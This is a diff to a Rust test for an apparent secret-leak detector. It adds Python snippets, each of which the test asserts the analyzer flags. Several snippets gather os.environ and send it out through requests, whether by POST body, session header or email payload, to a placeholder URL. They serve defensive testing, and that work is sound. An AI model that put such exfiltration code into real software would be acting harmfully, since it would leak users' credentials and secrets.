@@ -58,6 +58,9 @@ fn values_flow_through_functions_objects_and_containers() {
         "class A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post(u, json=self.d)",
         "for k, v in os.environ.items():\n    requests.get(u, params={k: v})",
         "class A:\n    def get(self):\n        return dict(os.environ)\n    def go(self):\n        requests.post(u, json=self.get())",
+        "class C:\n    def __init__(self):\n        self.d = {}\n    def take(self):\n        for n in os.environ:\n            self.d[n] = os.environ[n]\n        return self\n    def push(self):\n        requests.post(u, json=self.d)\nC().take().push()",
+        "s = requests.Session()\ns.headers['x'] = str(os.environ)\ns.get(u)",
+        "import email.message\nm = email.message.EmailMessage()\nm.set_content(str(os.environ))\nrequests.post(u, data=m.as_bytes())",
         "global_d = None\ndef fill():\n    global global_d\n    global_d = dict(os.environ)\ndef go():\n    requests.post(u, json=global_d)",
     ] {
         assert!(leaks(&format!("import os, requests\n{code}\n")), "{code}");
